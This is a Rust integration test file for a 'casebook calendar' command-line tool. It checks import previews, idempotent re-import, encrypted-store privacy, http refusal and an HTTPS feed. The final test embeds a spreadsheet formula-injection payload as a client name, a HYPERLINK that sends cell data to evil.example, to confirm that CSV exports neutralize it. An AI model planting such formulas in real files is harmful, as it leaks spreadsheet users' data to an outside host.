//! `casebook calendar` through the real binary: the dry-run JSON preview, import and
//! idempotent re-import, the privacy promise checked on the decrypted stores, http refused,
//! and the saved feed (set → refresh → remove) against a local HTTPS server whose
//! self-signed certificate the child process trusts through the standard `SSL_CERT_FILE`.

mod common;
use common::*;

#[path = "../../core/tests/support/https_server.rs"]
mod https_server;

use serde_json::Value;

fn fixture(name: &str) -> String {
    format!(
        "{}/../core/tests/fixtures/calendar/{name}",
        env!("CARGO_MANIFEST_DIR")
    )
}

const WINDOW: [&str; 4] = ["--from", "2026-03-01", "--to", "2026-11-30"];

fn import(v: &TestVault, file: &str, extra: &[&str]) -> Value {
    let f = fixture(file);
    let mut args = vec!["calendar", "import", f.as_str()];
    args.extend(WINDOW);
    args.extend(extra);
    v.json(&args)
}

fn appointment_count(v: &TestVault) -> i64 {
    let (ck, _) = v.keys_quiet();
    v.open_store("clinical.db", &ck)
        .query_row("SELECT count(*) FROM appointments", [], |r| r.get(0))
        .unwrap()
}

#[test]
fn dry_run_prints_the_preview_as_json_and_changes_no_record() {
    let v = TestVault::new(KeyStore::Passphrase);
    let out = import(&v, "google.ics", &["--dry-run"]);
    let events = out["events"].as_array().unwrap();
    let expected: Value =
        serde_json::from_str(&std::fs::read_to_string(fixture("google.expected.json")).unwrap())
            .unwrap();
    assert_eq!(events.len(), expected["events"].as_array().unwrap().len());
    for e in events {
        for field in ["summary", "start", "end", "status", "action"] {
            assert!(e.get(field).is_some(), "{field} missing in {e}");
        }
        let start = e["start"].as_str().unwrap();
        assert!(
            chrono::DateTime::parse_from_rfc3339(start).is_ok() && start.ends_with('Z'),
            "{start} is not RFC 3339 UTC"
        );
        assert!(["confirmed", "cancelled"].contains(&e["status"].as_str().unwrap()));
        // A fresh vault: confirmed events are new; cancelled ones (no client yet) unchanged.
        let want = if e["status"] == "confirmed" {
            "new"
        } else {
            "unchanged"
        };
        assert_eq!(e["action"], want, "{e}");
    }
    assert!(
        out["skipped"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s["reason"].as_str().unwrap().contains("all-day"))
    );
    assert_eq!(appointment_count(&v), 0);
    assert_eq!(v.json(&["client", "list"]).as_array().unwrap().len(), 0);
}

#[test]
fn import_asks_first_then_reimport_changes_nothing() {
    let v = TestVault::new(KeyStore::Passphrase);
    // Without --yes and without a terminal to ask on: refused, nothing imported.
    let f = fixture("jane.ics");
    let mut args = vec!["calendar", "import", f.as_str()];
    args.extend(WINDOW);
    v.cmd().args(&args).assert().failure().code(7);
    assert_eq!(appointment_count(&v), 0);

    let first = import(&v, "jane.ics", &["--yes"]);
    let new = first["counts"]["new"].as_u64().unwrap();
    assert!(new > 0);
    assert_eq!(
        appointment_count(&v) as u64,
        new + first["counts"]["cancelled"].as_u64().unwrap()
    );
    let clients = v.json(&["client", "list"]);
    assert_eq!(
        clients.as_array().unwrap().len() as u64,
        first["counts"]["new_clients"].as_u64().unwrap()
    );

    let again = import(&v, "jane.ics", &["--yes"]);
    assert_eq!(again["counts"]["new"], 0);
    assert_eq!(again["counts"]["moved"], 0);
    assert_eq!(again["counts"]["cancelled"], 0);
    assert!(
        again["events"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e["action"] == "unchanged")
    );
    assert_eq!(v.json(&["client", "list"]), clients);
}

#[test]
fn nothing_but_names_and_times_reaches_the_stores() {
    let v = TestVault::new(KeyStore::Passphrase);
    let out = import(&v, "privacy.ics", &["--yes"]);
    assert!(out["counts"]["new"].as_u64().unwrap() > 0);
    let (ck, ik) = v.keys();
    let clinical = all_text(&v.open_store("clinical.db", &ck));
    let identity = all_text(&v.open_store("identity.db", &ik));
    let never: Vec<String> =
        serde_json::from_str(&std::fs::read_to_string(fixture("privacy-strings.json")).unwrap())
            .unwrap();
    assert!(never.len() > 10);
    for s in &never {
        assert!(!clinical.contains(s.as_str()), "clinical store holds {s:?}");
        assert!(!identity.contains(s.as_str()), "identity store holds {s:?}");
    }
    // Two-code separation: names went to the identity store only.
    let names: Vec<String> = out["new_clients"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n.as_str().unwrap().to_string())
        .collect();
    assert!(!names.is_empty());
    for n in &names {
        assert!(identity.contains(n.as_str()));
        assert!(
            !clinical.contains(n.as_str()),
            "clinical store holds the name {n:?}"
        );
    }
    // And nothing in plaintext anywhere in the vault folder.
    for entry in std::fs::read_dir(&v.dir).unwrap() {
        let bytes = std::fs::read(entry.unwrap().path()).unwrap();
        for s in never.iter().chain(&names) {
            assert!(
                !bytes.windows(s.len()).any(|w| w == s.as_bytes()),
                "{s:?} in plaintext"
            );
        }
    }
}

#[test]
fn http_and_unreadable_input_are_refused_clearly() {
    let v = TestVault::new(KeyStore::Passphrase);
    let out = v
        .cmd()
        .args([
            "calendar",
            "import",
            "http://127.0.0.1:9/feed.ics",
            "--dry-run",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(7));
    assert!(String::from_utf8_lossy(&out.stderr).contains("http://"));
    let junk = v.home.path().join("junk.ics");
    std::fs::write(&junk, b"\x00\xffnot a calendar").unwrap();
    let out = v
        .cmd()
        .args(["calendar", "import", junk.to_str().unwrap(), "--dry-run"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(7));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not an iCalendar file"));
    assert_eq!(appointment_count(&v), 0);
}

#[test]
fn a_saved_feed_is_refreshed_over_https_and_removed() {
    let server = https_server::start();
    let v = TestVault::new(KeyStore::Passphrase);
    let ca = v.home.path().join("test-ca.pem");
    std::fs::write(&ca, &server.cert_pem).unwrap();
    let url = format!("webcal://127.0.0.1:{}/feed.ics", server.port);
    let set = v.json(&["calendar", "feed", "set", &url]);
    assert_eq!(set["host"], "127.0.0.1");

    let refresh = |v: &TestVault| -> Value {
        let out = v
            .cmd()
            .env("SSL_CERT_FILE", &ca)
            .args([
                "--json",
                "calendar",
                "feed",
                "refresh",
                "--from",
                "2031-01-01",
                "--to",
                "2031-12-31",
                "--yes",
            ])
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let first = refresh(&v);
    assert_eq!(first["counts"]["new"], 1);
    assert_eq!(first["source"], "feed");

    // The service drops the event (as services do with cancellations) while listing a new
    // one: the dropped one is marked cancelled.
    *server.feed.lock().unwrap() = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:y\r\nSUMMARY:Ann Example\r\nDTSTART:20310113T100000Z\r\nDTEND:20310113T105000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".to_vec();
    let second = refresh(&v);
    assert_eq!(second["counts"]["cancelled"], 1);
    assert_eq!(second["counts"]["new"], 1);
    assert_eq!(appointment_count(&v), 2);
    // An empty answer (an address reset) cancels nothing.
    *server.feed.lock().unwrap() = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n".to_vec();
    let third = refresh(&v);
    assert_eq!(third["counts"]["cancelled"], 0);

    // Without the test certificate the same fetch is refused (exit 10: network).
    let out = v
        .cmd()
        .env("SSL_CERT_FILE", v.home.path().join("no-such-file.pem"))
        .args(["calendar", "feed", "refresh", "--dry-run"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(10),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    v.json(&["calendar", "feed", "remove"]);
    let out = v
        .cmd()
        .args(["calendar", "feed", "refresh", "--dry-run"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(7));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no calendar feed"));
    let (ck, ik) = v.keys();
    let _ = ck;
    let identity = all_text(&v.open_store("identity.db", &ik));
    assert!(!identity.contains("feed.ics"));
}

/// A booking-page visitor who names themselves as a spreadsheet formula becomes a client by
/// calendar import. Every CSV Casebook writes shows that name as text (a leading apostrophe),
/// the JSON beside it keeps it exactly, and the audit export is owner-only.
#[test]
fn a_formula_for_a_name_never_runs_in_a_spreadsheet() {
    let v = TestVault::new(KeyStore::Passphrase);
    let ics = v.home.path().join("booking.ics");
    std::fs::write(
        &ics,
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:formula@e2e\r\n\
         SUMMARY:=HYPERLINK(\"https://evil.example/?\"&A1\\,\"Click\")\r\n\
         DTSTART:20260610T100000Z\r\nDTEND:20260610T105000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
    )
    .unwrap();
    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
    let mut args = vec!["calendar", "import", ics.to_str().unwrap()];
    args.extend(WINDOW);
    args.push("--yes");
    v.json(&args);

    let out = v.home.path().join("export");
    v.json(&["export", "--all", out.to_str().unwrap()]);
    let json = std::fs::read_to_string(out.join("client_identity.json")).unwrap();
    assert!(
        json.contains(&serde_json::to_string(name).unwrap()),
        "the JSON keeps the name exactly: {json}"
    );
    let mut found = false;
    for entry in std::fs::read_dir(&out).unwrap().flatten() {
        let path = entry.path();
        if path.extension().is_none_or(|e| e != "csv") {
            continue;
        }
        let mut reader = csv::Reader::from_path(&path).unwrap();
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{} has a cell a spreadsheet would run: {cell:?}",
                    path.display()
                );
                found |= cell == format!("'{name}");
            }
        }
    }
    assert!(found, "the name is in the CSV, as text");

    let audit = v.home.path().join("audit.csv");
    v.cmd()
        .args(["audit", "export", "--out", audit.to_str().unwrap()])
        .assert()
        .success();
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&audit).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "the audit export is owner-only");
    let mut reader = csv::Reader::from_path(&audit).unwrap();
    assert!(reader.records().count() > 2, "the trail was written");
}
